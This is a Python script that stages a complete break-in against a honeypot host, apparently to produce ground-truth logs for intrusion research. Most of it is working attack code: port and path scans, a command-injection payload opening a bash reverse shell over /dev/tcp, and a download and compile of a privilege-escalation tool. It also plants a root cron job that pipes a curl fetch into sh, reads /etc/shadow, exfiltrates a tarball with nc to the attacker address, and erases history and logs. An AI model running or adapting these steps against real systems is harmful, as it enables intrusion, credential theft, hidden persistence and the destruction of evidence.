# SPDX-License-Identifier: Apache-2.0
"""The intruder, key by key. Every step waits for the machine's answer before the next, and is printed
as one JSON line (the ground truth) once it has happened. Usage: attack.py FOLDER_FOR_LOOT"""
import http.server
import json
import pathlib
import re
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

import terminal

HERE = pathlib.Path(__file__).resolve().parent
LOOT = pathlib.Path(sys.argv[1])
ATTACKER, TARGET = "203.0.113.66", "192.0.2.10"
SHELL_PORT, EXFILTRATION_PORT = 4443, 4444
USER_PROMPT = r"www-data@honeypot:[^\n]*\$ $"
ROOT_PROMPT = r"root@honeypot:[^\n]*# $"
WORK = "/tmp/.font-unix"
CRON_FILE = "/etc/cron.d/sysstat-collect"
CRON_LINE = f"* * * * * root curl -s http://{ATTACKER}:8080/update | sh"
requests_served = []
cron_fetched = threading.Event()


def step(name, **facts):
    print(json.dumps({"step": name, "wall_ns": time.time_ns(),
                      "boot_ns": time.clock_gettime_ns(time.CLOCK_BOOTTIME), **facts}), flush=True)


class ToolServer(http.server.BaseHTTPRequestHandler):
    """Serves the tool's source, and to the planted cron job a command."""

    def do_GET(self):
        requests_served.append(self.path)
        body = {"/rootme.c": (HERE / "rootme.c").read_bytes(), "/update": b"id\n"}.get(self.path)
        self.send_response(200 if body else 404)
        self.end_headers()
        self.wfile.write(body or b"")
        if self.path == "/update":
            cron_fetched.set()

    def log_message(self, *_):
        pass


def scan():
    found = []
    for port in (21, 22, 23, 25, 80, 443, 3306, 8080):
        with socket.socket() as probe:
            probe.settimeout(terminal.TIMEOUT_S)
            if probe.connect_ex((TARGET, port)) == 0:
                found.append(port)
    step("scan_ports", open_ports=found)
    pages = []
    for path in ("/", "/admin/", "/phpmyadmin/", "/.git/config", "/cgi-bin/test.cgi",
                 "/cgi-bin/status.cgi"):
        try:
            with urllib.request.urlopen(f"http://{TARGET}{path}", timeout=terminal.TIMEOUT_S) as answer:
                pages.append([path, answer.status])
        except urllib.error.HTTPError as error:
            pages.append([path, error.code])
    step("scan_paths", pages=pages)


def break_in(listener):
    payload = (f"127.0.0.1 80; bash -c 'bash -i >& /dev/tcp/{ATTACKER}/{SHELL_PORT} 0>&1'"
               " >/dev/null 2>&1 & true")
    url = f"http://{TARGET}/cgi-bin/status.cgi?host={urllib.parse.quote(payload, safe='')}"
    sender = socket.create_connection((TARGET, 80), timeout=terminal.TIMEOUT_S)
    source_port = sender.getsockname()[1]
    sender.sendall(f"GET {url.removeprefix('http://' + TARGET)} HTTP/1.1\r\nHost: {TARGET}\r\n"
                   "Connection: close\r\n\r\n".encode())
    connection, peer = listener.accept()
    while sender.recv(65536):
        pass
    sender.close()
    step("exploit", source_port=source_port, url=url, payload=payload)
    step("reverse_shell", peer_port=peer[1])
    return terminal.Terminal(connection)


def upgrade(shell):
    shell.expect(USER_PROMPT)
    shell.line("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'")  # no terminal yet: nothing echoes
    shell.expect(USER_PROMPT)
    for command in ("stty rows 40 columns 120", "export TERM=xterm"):
        shell.type(command + "\r")
        shell.expect(USER_PROMPT)
    step("terminal", rows=40, columns=120)


def look_around(shell):
    shell.type("idd\x7f\r")
    output = shell.expect(USER_PROMPT)
    step("identity", user=re.search(r"uid=\d+\((\S+?)\)", output)[1])
    shell.type("unmae\x7f\x7f\x7fame -a\r")
    shell.expect(USER_PROMPT)
    shell.type("ls -la /root\x15ls -la /var/www\r")
    shell.expect(USER_PROMPT)
    shell.type("cat /etc/pas")
    shell.type("\t", echo="swd")
    shell.type("\r")
    shell.expect(USER_PROMPT)
    shell.type("find / -perm -4000 -type f 2>/dev/nul\x7f\x7f\x7fnull\r")
    found = shell.expect(USER_PROMPT)
    step("setuid_search", found="/usr/local/bin/site-backup" in found)
    shell.type("su -\r")
    shell.expect("Password: $")
    shell.line("hunter2")  # echo is off
    failed = shell.expect(USER_PROMPT)
    step("wrong_password", typed="hunter2", refused="failure" in failed)


def become_root(shell):
    shell.type(f"mkdir {WORK}; cd {WORK}\r")
    shell.expect(USER_PROMPT)
    shell.type(f"curl -so rootme.c http://{ATTACKER}:8080/rootme.c\r")
    shell.expect(USER_PROMPT)
    step("download", file=f"{WORK}/rootme.c", served="/rootme.c" in requests_served)
    shell.type("gcc -o rotme\x7f\x7f\x7fotme rootme.c\r")
    shell.expect(USER_PROMPT)
    step("build", file=f"{WORK}/rootme")
    shell.type("./rootme\r")
    shell.expect(ROOT_PROMPT)
    shell.type("id\r")
    step("root", user=re.search(r"uid=\d+\((\S+?)\)", shell.expect(ROOT_PROMPT))[1])


def act_as_root(shell, exfiltration):
    shell.type("cat /etc/shaod\x7f\x7fdow\r")
    step("read_shadow", seen="root:$6$" in shell.expect(ROOT_PROMPT))
    shell.type(f"echo '{CRON_LINE}' > {CRON_FILE}\r")
    shell.expect(ROOT_PROMPT)
    step("plant_cron", file=CRON_FILE)
    shell.type("/bin/tar czf loot.tgz /etc/shadow /var/www/html\r")  # "tar" is the tool here
    shell.expect(ROOT_PROMPT)
    shell.type(f"nc -N {ATTACKER} {EXFILTRATION_PORT} < loot.tgz\r")
    receiver, peer = exfiltration.accept()
    received = b"".join(iter(lambda: receiver.recv(65536), b""))
    receiver.close()
    shell.expect(ROOT_PROMPT)
    (LOOT / "loot.tgz").write_bytes(received)
    step("exfiltration", peer_port=peer[1], size_bytes=len(received))
    for command in ("rm -f /root/.bash_history", ": > /var/log/nginx/access.log",
                    f"cd /; rm -rf {WORK}"):
        shell.type(command + "\r")
        shell.expect(ROOT_PROMPT)
    step("remove_traces")


def main():
    server = http.server.ThreadingHTTPServer((ATTACKER, 8080), ToolServer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with socket.create_server((ATTACKER, SHELL_PORT)) as listener, \
            socket.create_server((ATTACKER, EXFILTRATION_PORT)) as exfiltration:
        for waiting in (listener, exfiltration):
            waiting.settimeout(terminal.TIMEOUT_S)
        scan()
        shell = break_in(listener)
        upgrade(shell)
        look_around(shell)
        become_root(shell)
        act_as_root(shell, exfiltration)
        shell.type("exit\r")
        shell.expect(USER_PROMPT)  # of the terminal's shell, the helper has ended
        shell.line("exit")
        shell.expect(USER_PROMPT)  # of the first shell, without a terminal
        shell.line("exit")
        shell.expect_end()
        step("logout", keystrokes=shell.sent)
    # cron looks for new files every minute.
    step("persistence", fetched=cron_fetched.wait(timeout=terminal.TIMEOUT_S))


if __name__ == "__main__":
    main()
